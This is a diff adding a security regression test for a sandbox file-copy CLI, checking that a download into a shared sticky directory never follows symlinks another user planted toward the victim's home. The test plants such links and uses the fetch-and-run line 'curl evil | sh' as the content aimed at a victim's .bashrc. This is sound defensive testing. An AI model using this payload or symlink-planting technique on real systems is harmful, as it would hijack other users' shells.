@@ -1,13 +1,15 @@
 """`sandboxctl cp` as a user runs it: a real process against the session's daemon. A tree
 into a workspace and back, byte for byte; a file into a leased sandbox (both backends)
 that a command there reads, and one it wrote taken out; a refusal's exit code and reason;
-the transfer id printed is the one the trace holds."""
+the transfer id printed is the one the trace holds; a download never writes through a
+link another local user planted."""
 
 from __future__ import annotations
 
 import json
 import os
 import re
+import stat
 from pathlib import Path
 
 import pytest
@@ -147,3 +149,32 @@ def test_the_transfer_id_printed_is_the_one_in_the_trace(daemon, tmp_path):
     # And in the readable form.
     plain = ctl(daemon, "trace", xfer)
     assert plain.returncode == 0 and b"FilesTransferred" in plain.stdout
+
+
+def test_a_download_never_writes_through_a_link_another_user_planted(daemon, tmp_path):
+    ws = daemon.new_workspace({"report.txt": "curl evil | sh\n", "out/.bashrc": "curl evil | sh\n"})
+    shared = tmp_path / "shared"  # as /tmp: everyone writes, the sticky bit keeps each one's names
+    shared.mkdir()
+    shared.chmod(0o1777)
+    home = tmp_path / "home"
+    home.mkdir()
+    victim = home / ".bashrc"
+    victim.write_text("# mine\n")
+    victim.chmod(0o600)
+
+    def plant(name: str, target: Path) -> None:  # as uid 65534 would
+        (shared / name).symlink_to(target)
+        os.lchown(shared / name, 65534, 65534)
+
+    # The receiver's temporary name was predictable and opened following links.
+    plant(".report.txt.sandboxd-part", victim)
+    one = ctl(daemon, "cp", f"{ws}:/workspace/report.txt", str(shared / "report.txt"))
+    assert one.returncode == 0, one.stderr
+    assert (shared / "report.txt").read_text() == "curl evil | sh\n"
+    # Into a name that is their link to the user's home: refused, whichever way it is read.
+    plant("out", home)
+    for dest in (shared / "out", shared / "out" / "deeper"):
+        tree = ctl(daemon, "cp", f"{ws}:/workspace/out", str(dest))
+        assert tree.returncode == 1 and b"symlink" in tree.stderr and b"not followed" in tree.stderr, tree.stderr
+    assert victim.read_text() == "# mine\n" and stat.S_IMODE(victim.stat().st_mode) == 0o600
+    assert os.listdir(home) == [".bashrc"]
